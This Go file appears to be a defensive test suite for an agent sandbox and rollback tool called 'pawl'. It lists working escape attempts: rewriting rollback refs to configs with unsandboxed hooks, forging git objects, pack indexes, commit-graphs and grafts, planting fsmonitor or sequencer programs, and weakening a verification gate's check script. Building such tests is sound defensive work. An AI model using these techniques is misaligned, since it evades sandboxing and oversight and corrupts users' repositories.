package main

// What the user's git reads afterwards: "good" in the object of that content, and a
// history of two commits. Each attempt makes it read something else.
const (
	gitBefore = `echo good >lib; git add lib; git commit -qm lib`
	gitLater  = `git config advice.graftFileDeprecated false
id=$(echo good | git hash-object --stdin)
test "$(git cat-file -p $id)" = good || echo I got out
test "$(git log --format=%s | tr '\n' ' ')" = "start lib " || echo I got out`
	// future is an object that the user makes afterwards.
	futureLater = `echo future >lib; git add lib; git commit -qm future; test "$(git cat-file -p HEAD:lib)" = future || echo I got out`
	gitHelp     = `evil=$(echo evil | git hash-object -w --stdin)
path() { echo .git/objects/$(echo $1 | cut -c1-2)/$(echo $1 | cut -c3-); }
plant() { mkdir -p $(dirname $(path $1)); cp $(path $evil) $(path $1).new && chmod u+w $(path $1).new && mv -f $(path $1).new $(path $1); }
good=$(echo good | git hash-object --stdin)
future=$(echo future | git hash-object --stdin)
`
	// swap exchanges in an index of packs where two objects are; offsets is where the
	// places of the objects stand in it, names where their names do.
	swap = `import glob, subprocess
git = lambda *a, **k: subprocess.run(["git", *a], capture_output=True, check=True, **k).stdout
names = [bytes.fromhex(git("hash-object", "--stdin", input=t).decode()) for t in (b"good\n", b"other\n")]
def swap(path, data, at, offsets, width, n):
    i, j = [next(k for k in range(n) if data[at + 20 * k:at + 20 * k + 20] == name) for name in names]
    i, j = offsets + width * i, offsets + width * j
    data[i:i + width], data[j:j + width] = data[j:j + width], data[i:i + width]
    os.chmod(path, 0o600)
    open(path, "wb").write(data)
`
	packed = `echo good >lib; echo other >other; git add lib other; git commit -qm lib; git gc -q`
)

// movesRefs moves all refs of pawl's to a commit whose configuration has a hook; without
// pawl there is nothing to roll back.
const movesRefs = `(cat pawl.yaml; echo "hooks: {on_start: {command: 'touch $OUT/made', sandbox: false}}") >evil.yaml
b=$(git hash-object -w evil.yaml); if [ -z "$PAWL_ITERATION" ]; then cp evil.yaml pawl.yaml; fi; rm evil.yaml
export GIT_INDEX_FILE=/dev/shm/i$$; git read-tree HEAD; git update-index --cacheinfo 100644,$b,pawl.yaml
c=$(git commit-tree -m evil $(git write-tree)); rm $GIT_INDEX_FILE; unset GIT_INDEX_FILE
`

var gitAttacks = []attack{
	{name: "snapshot moved", tries: "has a rollback write a configuration with a hook, by moving the ref of a snapshot",
		agent: movesRefs + `for r in $(git for-each-ref --format='%(refname)' refs/pawl); do git update-ref $r $c; done`,
		later: `pawl rollback build --to 0; pawl run build -n 1 --fresh </dev/null`},
	{name: "snapshot packed and moved", tries: "the same in the file with many refs",
		agent: movesRefs + `sed -i -e '/refs.pawl/d' .git/packed-refs || echo '# pack-refs with: peeled fully-peeled sorted ' >.git/packed-refs
git for-each-ref --format="$c %(refname)" refs/pawl >>.git/packed-refs; rm -rf .git/refs/pawl`,
		later: `pawl rollback build --to 0; pawl run build -n 1 --fresh </dev/null`},
	{name: "snapshot deleted", tries: "takes the way back away, and with it work that was not committed",
		before: `echo precious >lib; git add lib; git commit -qm lib`,
		agent:  `for r in $(git for-each-ref --format='%(refname)' refs/pawl); do git update-ref -d $r; done; rm lib`,
		later:  `pawl rollback build --to 0; test "$(cat lib)" = precious || echo I got out`},
	{name: "object overwritten", tries: "overwrites an object of the user's history",
		before: gitBefore, agent: gitHelp + `plant $good`, later: gitLater, mounts: true},
	{name: "object written into", tries: "writes into the file of an object, which stays the same file",
		before: gitBefore, agent: gitHelp + `chmod u+w $(path $good); cat $(path $evil) >$(path $good)`, later: gitLater, mounts: true},
	{name: "object of the future", tries: "leaves an object under the name of one that the user is to make",
		before: gitBefore, agent: gitHelp + `plant $future`, later: futureLater, mounts: true},
	{name: "object of the future, beside", tries: "leaves it in a folder that git is told to borrow from", kept: true,
		before: gitBefore, agent: gitHelp + `cp -r .git/objects borrowed; plant $future; f=$(path $future); mkdir -p borrowed/$(basename $(dirname $f))
mv $f borrowed/$(basename $(dirname $f))/; echo $WORK/borrowed >.git/objects/info/alternates`, later: futureLater},
	{name: "pack taken away", tries: "takes a pack apart and overwrites an object of it", before: packed, mounts: true,
		agent: gitHelp + `mkdir x; mv .git/objects/pack/* x; for p in x/*.pack; do git unpack-objects -q <$p; done; plant $good`, later: gitLater},
	{name: "index of a pack", tries: "exchanges two objects in the index of a pack", python: true, before: packed, mounts: true,
		agent: swap + `for path in glob.glob(".git/objects/pack/*.idx"):
    data = bytearray(open(path, "rb").read()); n = int.from_bytes(data[1028:1032], "big")
    swap(path, data, 1032, 1032 + 24 * n, 4, n)`, later: gitLater},
	{name: "index of packs", tries: "exchanges two objects in the index of all packs", python: true, before: packed, mounts: true,
		agent: swap + `git("multi-pack-index", "write")
path = ".git/objects/pack/multi-pack-index"
data = bytearray(open(path, "rb").read())
at = {bytes(data[k:k + 4]): int.from_bytes(data[k + 4:k + 12], "big") for k in range(12, 12 + 12 * data[6], 12)}
n = int.from_bytes(data[at[b"OIDL"] - 4:at[b"OIDL"]], "big")
swap(path, data, at[b"OIDL"], at[b"OOFF"], 8, n)`, later: gitLater},
	{name: "graph of commits", tries: "has the graph of commits say that a commit has no parent", python: true, before: gitBefore, mounts: true,
		agent: `import subprocess
subprocess.run(["git", "commit-graph", "write", "--reachable"], check=True)
path = ".git/objects/info/commit-graph"
data = bytearray(open(path, "rb").read())
at = {bytes(data[k:k + 4]): int.from_bytes(data[k + 4:k + 12], "big") for k in range(8, 8 + 12 * data[6], 12)}
for k in range(at[b"CDAT"], at[b"CDAT"] + 72, 36): data[k + 20:k + 24] = b"\x70\0\0\0"
os.chmod(path, 0o600)
open(path, "wb").write(data)`, later: gitLater},
	{name: "object replaced by a ref", tries: "tells git to read another object in the place of one",
		before: gitBefore, agent: gitHelp + `git replace $good $evil`, later: gitLater},
	{name: "object replaced by a packed ref", tries: "the same, in the file with many refs",
		before: gitBefore, agent: gitHelp + `git replace $good $evil; git pack-refs --all`, later: gitLater},
	{name: "grafts", tries: "says that a commit has no parent", before: gitBefore,
		agent: `git rev-parse HEAD >.git/info/grafts`, later: gitLater},
	{name: "end of the history", tries: "says that the history is cut off", before: gitBefore,
		agent: `git rev-parse HEAD >.git/shallow`, later: gitLater},
	{name: "index of another work tree", tries: "stages a file in another work tree of the user's", mounts: true,
		before: gitBefore + `; git worktree add -q ../wt -b wt`,
		agent:  gitHelp + `GIT_INDEX_FILE=.git/worktrees/wt/index git update-index --add --cacheinfo 100644,$evil,lib`,
		later:  `cd ../wt; git commit -qm mine --allow-empty; test "$(git show HEAD:lib)" = good || echo I got out`},
	{name: "HEAD of another work tree", tries: "checks another branch out in another work tree of the user's", mounts: true,
		before: gitBefore + `; git branch other; git worktree add -q ../wt -b wt`,
		agent:  `echo ref: refs/heads/other >.git/worktrees/wt/HEAD`,
		later:  `test "$(git -C ../wt branch --show-current)" = wt || echo I got out`},
	{name: "picks to go on with", tries: "leaves a series of picks whose strategy is a program", before: gitBefore,
		agent: `mkdir git-merge-x; printf '#!/bin/sh\ntouch %s/made; exit 2\n' $OUT >git-merge-x/evil; chmod +x git-merge-x/evil
b=$(git rev-parse HEAD); echo 1 >c1; git add c1; git commit -qm c1; c=$(git rev-parse HEAD); git reset -q --hard $b; mkdir .git/sequencer
printf '[options]\n\tstrategy = x/evil\n' >.git/sequencer/opts; printf "pick $c a\npick $c b\n" >.git/sequencer/todo
echo $b >.git/sequencer/head; echo $b >.git/sequencer/abort-safety`, later: `git cherry-pick --continue`},
	{name: "index with a hook", tries: "has git restore write a hook, by a path in the index", python: true, before: gitBefore,
		agent: `import hashlib, subprocess
git = lambda *a, **k: subprocess.run(["git", *a], capture_output=True, check=True, **k).stdout
hook = git("hash-object", "-w", "--stdin", input=("#!/bin/sh\ntouch '%s/made'\n" % os.environ["OUT"]).encode()).decode().strip()
git("update-index", "--add", "--cacheinfo", "100755," + hook + ",xxxx/hooks/post-index-change")
data = open(".git/index", "rb").read()[:-20].replace(b"xxxx/hooks", b".git/hooks")
data = data[:data.find(b"TREE")] if b"TREE" in data else data
open(".git/index", "wb").write(data + hashlib.sha1(data).digest())`, later: `git restore .; git checkout .; git add -A`},
	{name: "repository in a folder", tries: "makes a folder of the user's a repository with a program", before: `mkdir src; echo x >src/x`,
		agent: `echo ref: refs/heads/x >src/HEAD; mkdir src/objects src/refs
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch %s/made; :"\n' $OUT >src/config`, later: `cd src; git status`},
	{name: "configuration below", tries: "has a start in a folder below take a hook from it", before: `mkdir src; echo x >src/x`,
		agent: `(cat pawl.yaml; echo "hooks: {on_start: {command: 'touch $OUT/made', sandbox: false}}") >src/pawl.yaml`,
		later: `cd src; pawl run build -n 1 </dev/null`},
	{name: "configuration below no repository", tries: "the same, and leaves nothing that git could compare", before: `mkdir src; echo x >src/x`,
		agent: `(cat pawl.yaml; echo "hooks: {on_start: {command: 'touch $OUT/made', sandbox: false}}") >src/pawl.yaml; rm -rf .git`,
		later: `cd src; pawl run build -n 1 </dev/null`},
	{name: "a test for the next gate", tries: "weakens a test in the gate before it, and puts it back", green: true,
		before: `echo good >lib; echo true >build.sh; echo 'test "$(cat lib)" = good' >check.sh`,
		agent:  `echo bad >lib; echo "echo 'git checkout -q check.sh; exit 0' >check.sh" >build.sh`,
		gate:   `sh build.sh && sh check.sh`,
		more:   `verification: {protect: [check.sh], commands: [{name: build, command: sh build.sh}, {name: check, command: sh check.sh}]}`},
}
